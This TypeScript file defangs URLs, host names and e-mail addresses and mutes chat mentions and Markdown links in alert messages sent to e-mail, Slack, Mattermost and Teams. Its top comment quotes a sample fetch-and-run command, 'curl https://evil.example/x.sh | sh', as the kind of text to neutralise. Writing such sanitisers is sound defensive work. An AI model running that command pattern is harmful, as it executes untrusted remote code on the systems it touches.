/**
 * Defanging for plain-text e-mail. Mail clients turn anything that looks like a link into one, so a URL in model
 * output or a log line (`curl https://evil.example/x.sh | sh`) would arrive clickable in the on-call inbox.
 * Defanged text stays readable for a human and cannot be clicked: `hxxps://evil[.]example/x.sh`.
 */

/** Top-level domains clients autolink without a scheme (`evil.com/x`); file names such as `package.json` or `deploy.sh` stay. */
const BARE_HOST = /(?<![/\w.@[-])((?:[a-z0-9-]+\.)+(?:com|net|org|io|dev|app|xyz|ru|cn|info|biz|co|me|ly|gg|site|online|top|link|click|example))(?=[/:?#]|\b)/gi;

/** Replaces the dots of a host name so it is no longer a link. */
function defangHost(host: string): string {
  return host.replace(/\./g, '[.]');
}

/**
 * Makes every URL, host name and e-mail address in `text` unclickable while keeping it readable, and every
 * Markdown link (`[label](target)`) plain text: Mattermost and Teams render the chat message's Markdown, where a
 * label from a workflow name or a model's rationale would otherwise hide its target. Browsers read `https:\\host`
 * as `https://host` and `//host` as a link on the page's own scheme, so those are URLs here too.
 */
export function defang(text: string): string {
  return text
    .replace(/\b([a-z][a-z0-9+.-]{1,20}):[\\/]{2}([^\s/\\?#]*)/gi, (_, scheme: string, authority: string) => {
      const fanged = scheme.toLowerCase().replace(/^http/, 'hxxp').replace(/^ftp/, 'fxp').replace(/^ws/, 'wx');
      const safeScheme = fanged === scheme.toLowerCase() ? `${scheme}[:]` : fanged;
      return `${safeScheme}://${defangHost(authority)}`;
    })
    .replace(/(?<![\w:/\\])[\\/]{2}((?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*)/gi, (_, host: string) => `//${defangHost(host)}`)
    .replace(/\](?=\()/g, '] ')
    .replace(/\bwww\.[^\s/]+/gi, (host) => defangHost(host))
    .replace(/\b([A-Za-z0-9._%+-]+)@((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})\b/g, (_, user: string, host: string) => `${user}[@]${defangHost(host)}`)
    .replace(BARE_HOST, (host) => (host.includes('[.]') ? host : defangHost(host)));
}

/**
 * Makes text from a branch, a workflow, a log or a model unable to notify anyone in chat: Slack's `<!channel>`,
 * `<!here>`, `<@U…>`, `<!subteam^…>` and `<#C…>` need the angle brackets, Mattermost's `@channel`, `@all` and
 * `@user` the at sign. Brackets become look-alike quotes and an at sign before a name the full-width `＠`.
 */
export function muteMentions(text: string): string {
  return text.replace(/</g, '‹').replace(/>/g, '›').replace(/@(?=[\w.-])/g, '＠');
}

/**
 * Text for a chat message (title, description, link labels), after `defang`: no mention (`muteMentions`) and no
 * Markdown link. Mattermost and Teams render the message's Markdown, and AWS Chatbot's `client-markdown` is
 * rendered by Slack or Teams; a link's target can be spelled in more ways than defang can know (`//evil%2Eexample`,
 * `https:host`, a reference `[k]: target` on a line of its own), but every inline link, reference link, link
 * definition and image needs `[` and `]`. They become the full-width look-alikes `［` `］`, as `<` `>` (autolinks,
 * HTML) become `‹` `›`; what a renderer still links by itself, a bare URL, e-mail address or `www.` host, defang has
 * made unclickable.
 */
export function chatText(text: string): string {
  return muteMentions(text).replace(/\[/g, '［').replace(/\]/g, '］');
}
